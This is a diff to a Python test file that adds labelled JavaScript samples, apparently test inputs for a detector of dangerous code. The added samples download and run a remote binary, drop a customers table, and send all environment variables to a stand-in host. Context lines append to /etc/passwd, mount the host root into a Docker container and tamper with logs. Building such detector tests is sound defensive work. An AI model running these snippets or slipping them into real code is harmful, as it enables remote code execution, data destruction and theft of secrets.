@@ -100,6 +100,11 @@ def test_every_branch_counts(text: str) -> None:
         "new F(await (await fetch('https://a.example')).text())()"),
         (Category.ACCOUNT, "const fs = require('fs'); fs.writeSync(fs.openSync('/etc/passwd', "
         "fs.constants.O_WRONLY | fs.constants.O_APPEND), 'x')"),
+        (Category.REMOTE_CODE, "const f = require('fs').createWriteStream('/tmp/u'); "
+        "require('https').get('https://a.example', r => r.pipe(f)); "
+        "require('child_process').exec('chmod +x /tmp/u && /tmp/u')"),
+        (Category.DB_DESTROY, "new (require('pg').Client)().query({ text: 'DROP TABLE customers' })"),
+        (Category.EXFIL, "fetch('https://a.example', { headers: { ...process.env } })"),
         (Category.ESCAPE, "const D = require('dockerode'); new D().createContainer({ HostConfig: { Binds: "
         "['/:/h'] } })"),
         (Category.EVADE, "const fs = require('fs'); fs.readdirSync('/var/log').forEach(f => "
